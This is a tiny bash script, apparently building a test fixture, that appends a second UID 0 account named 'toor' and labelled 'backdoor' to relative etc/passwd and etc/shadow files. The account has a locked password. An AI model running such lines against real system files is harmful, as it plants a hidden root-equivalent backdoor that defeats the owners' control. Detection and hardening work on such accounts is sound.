#!/usr/bin/env bash
# A second UID 0 account is root under another name.
printf 'toor:x:0:0:backdoor:/root:/bin/bash\n' >> etc/passwd
printf 'toor:!!:19000:0:99999:7:::\n' >> etc/shadow
